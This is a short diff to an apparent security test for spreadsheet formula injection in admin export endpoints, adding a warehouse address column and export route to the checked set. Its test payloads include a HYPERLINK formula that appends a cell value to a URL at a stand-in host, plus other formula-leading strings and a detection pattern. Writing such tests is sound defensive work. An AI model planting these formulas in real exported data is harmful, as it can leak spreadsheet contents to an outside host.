@@ -32,6 +32,7 @@ const POISONED: [table: string, column: string][] = [
   ['price_templates', 'name'],
   ['back_users', 'username'],
   ['purchase_orders', 'close_reason'],
+  ['warehouses', 'address'],
 ];
 const STARTS = ['=HYPERLINK("http://x.test/"&A1,"点我")', '+1+1', '-2+3', '@SUM(1,1)'];
 const FORMULA_LIKE = /^[=+\-@]/;
@@ -48,6 +49,7 @@ const bodies = (): Record<string, unknown> => ({
   '/admin/commodity/export': {},
   '/admin/purchase_order/export': {},
   '/admin/supplier_statement/export': {},
+  '/admin/warehouse/export': {},
 });
 
 const exportRoutes = allRoutes.filter((r) => /^export/.test(r.endpoint.path.split('/').at(-1) ?? ''));
